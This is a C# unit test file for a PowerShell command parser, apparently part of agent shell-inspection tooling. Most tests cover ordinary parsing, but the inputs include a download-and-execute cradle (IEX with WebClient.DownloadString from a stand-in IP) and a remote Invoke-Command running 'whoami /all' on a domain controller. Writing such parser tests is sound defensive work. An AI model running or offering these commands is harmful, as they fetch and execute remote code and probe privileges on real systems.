using Parry.Agents.Shell;
using static Parry.Agents.Tests.Shell.ShellTestParsing;

namespace Parry.Agents.Tests.Shell;

public class PowerShellParserTests
{
    [Fact]
    public void Statements_pipelines_and_quoting()
    {
        var commands = Parse("Get-Process | Where-Object { $_.CPU -gt 100 }; Write-Output 'it''s' \"a `\"b`\" c\"", ShellDialect.PowerShell);
        commands.Select(c => c.Words[0]).ShouldBe(["Get-Process", "$_.CPU", "Where-Object", "Write-Output"]);
        commands.Single(c => c.Words[0] == "Write-Output").Words.ShouldBe(["Write-Output", "it's", "a \"b\" c"]);
        commands.Single(c => c.Words[0] == "Where-Object").PipedIn.ShouldBeTrue();
    }

    [Fact]
    public void Grouping_and_subexpressions_are_parsed_and_method_arguments_are_not()
    {
        var commands = Parse("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')", ShellDialect.PowerShell);
        commands.Select(c => c.Words[0]).ShouldBe(["New-Object", "IEX"]);
        commands.Single(c => c.Words[0] == "IEX").Words[1].ShouldBe("(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')");
    }

    [Fact]
    public void Assignments_leave_the_command()
    {
        Words("$wc = New-Object System.Net.WebClient; $r=Invoke-WebRequest -Uri http://x", ShellDialect.PowerShell)
            .ShouldBe([["New-Object", "System.Net.WebClient"], ["Invoke-WebRequest", "-Uri", "http://x"]]);
    }

    [Fact]
    public void Call_operator_and_dot_sourcing()
    {
        Words("& 'C:\\Program Files\\tool.exe' -x; . .\\profile.ps1", ShellDialect.PowerShell)
            .ShouldBe([["C:\\Program Files\\tool.exe", "-x"], [".\\profile.ps1"]]);
    }

    [Fact]
    public void Script_blocks_are_parsed()
    {
        Parse("Invoke-Command -ComputerName dc01 -ScriptBlock { whoami /all }", ShellDialect.PowerShell)
            .Select(c => c.Words[0]).ShouldBe(["whoami", "Invoke-Command"]);
    }

    [Fact]
    public void Here_strings_and_comments()
    {
        var all = Parse("<# block\ncomment #>\n$s = @'\nline 'one'\n'@\nWrite-Host $s # trailing", ShellDialect.PowerShell);
        all[0].Assignments.ShouldBe(["$s"]);
        all[0].Words.ShouldBeEmpty(); // a here-string is a value
        var commands = all.Where(c => c.Words.Count > 0).ToList();
        commands.Select(c => c.Words[0]).ShouldBe(["Write-Host"]);
        commands[0].Words.ShouldBe(["Write-Host", "$s"]);
    }

    [Fact]
    public void Backtick_escapes_and_line_continuation()
    {
        Words("Write-Host a`tb `\n  c`$d", ShellDialect.PowerShell).ShouldBe([["Write-Host", "atb", "c$d"]]);
    }

    [Fact]
    public void Chain_operators_and_redirections()
    {
        var commands = Parse("git pull && dotnet build 2>&1 > build.log || exit 1", ShellDialect.PowerShell);
        commands.Select(c => c.Next).ShouldBe([ShellOperator.And, ShellOperator.Or, ShellOperator.None]);
        commands[1].Redirects.Select(r => r.Operator + r.Target).ShouldBe([">&1", ">build.log"]);
    }

    [Theory]
    [InlineData("Write-Host 'open")]
    [InlineData("@'\nno end")]
    [InlineData("(((")]
    [InlineData("$(")]
    [InlineData("<# never closed")]
    [InlineData("`")]
    public void Broken_input_does_not_throw(string text) => Should.NotThrow(() => Parse(text, ShellDialect.PowerShell));
}
